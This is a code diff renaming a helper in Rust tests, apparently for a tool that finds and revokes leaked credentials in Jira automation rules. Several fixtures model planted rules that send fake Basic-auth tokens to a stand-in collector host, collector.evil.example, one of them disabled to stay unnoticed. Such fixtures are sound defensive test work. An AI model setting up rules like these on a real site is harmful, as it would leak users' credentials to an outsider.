@@ -24,7 +24,7 @@ pub(crate) fn basic(user: &str, token: &str) -> String {
 }
 
 /// A rule with one "Send web request" carrying `auth` to `url`.
-fn web_request(uuid: &str, name: &str, url: &str, auth: &str, state: &str) -> Value {
+fn rule_with_web_request(uuid: &str, name: &str, url: &str, auth: &str, state: &str) -> Value {
     json!({"rule": {
         "uuid": uuid, "name": name, "state": state,
         "authorAccountId": format!("712020:author-of-{name}"),
@@ -76,21 +76,21 @@ pub(crate) fn planted_site() -> Planted {
     let (old, new) = (fake_token(), fake_token());
     let fakes = vec![fake_token(), fake_token(), fake_token()];
     let rules = vec![
-        web_request(
+        rule_with_web_request(
             REAL,
             "Real: comment",
             "{{baseUrl}}/rest/api/3/issue/{{issue.key}}/comment",
             &basic(ALICE, &old),
             "ENABLED",
         ),
-        web_request(
+        rule_with_web_request(
             REAL_TOO,
             "Real: transition",
             "https://acme.atlassian.net/rest/api/3/issue",
             &basic(ALICE, &old),
             "ENABLED",
         ),
-        web_request(
+        rule_with_web_request(
             REAL_ECHOED,
             "Real: pasted from a terminal",
             "{{baseUrl}}/rest/api/3/search",
@@ -98,7 +98,7 @@ pub(crate) fn planted_site() -> Planted {
             "ENABLED",
         ),
         // Junk sent to the planter's own host, disabled so nobody notices.
-        web_request(
+        rule_with_web_request(
             PLANTED_JUNK,
             "Planted: to evil",
             "https://collector.evil.example/in",
@@ -106,7 +106,7 @@ pub(crate) fn planted_site() -> Planted {
             "DISABLED",
         ),
         // A token-shaped fake calling the site's REST API as alice.
-        web_request(
+        rule_with_web_request(
             PLANTED_SITE,
             "Planted: as alice",
             "{{baseUrl}}/rest/api/3/myself",
@@ -118,7 +118,7 @@ pub(crate) fn planted_site() -> Planted {
             "Planted: variable",
             &format!("{ALICE}:{}", fakes[1]),
         ),
-        web_request(
+        rule_with_web_request(
             PLANTED_MORE,
             "Planted: one more",
             "https://collector.evil.example/2",
@@ -355,14 +355,14 @@ fn a_fingerprint_prefix_never_confirms_a_value_ground_to_match_it() {
         .find(|j| Fingerprint::of(j).to_string().starts_with(&want))
         .expect("a value sharing four hex digits");
     let rules = vec![
-        web_request(
+        rule_with_web_request(
             REAL,
             "Real",
             "{{baseUrl}}/rest/api/3/issue",
             &basic(ALICE, &old),
             "ENABLED",
         ),
-        web_request(
+        rule_with_web_request(
             PLANTED_JUNK,
             "Planted: to evil",
             "https://collector.evil.example/in",
@@ -396,14 +396,14 @@ fn a_fingerprint_prefix_never_confirms_a_value_ground_to_match_it() {
 #[test]
 fn a_rerun_never_names_an_unconfirmed_value_for_revoking() {
     let (old, new) = (fake_token(), fake_token());
-    let mut mixed = web_request(
+    let mut mixed = rule_with_web_request(
         REAL,
         "Mixed",
         "{{baseUrl}}/rest/api/3/issue",
         &basic(ALICE, &old),
         "ENABLED",
     );
-    let evil = web_request(
+    let evil = rule_with_web_request(
         PLANTED_JUNK,
         "x",
         "https://collector.evil.example/in",
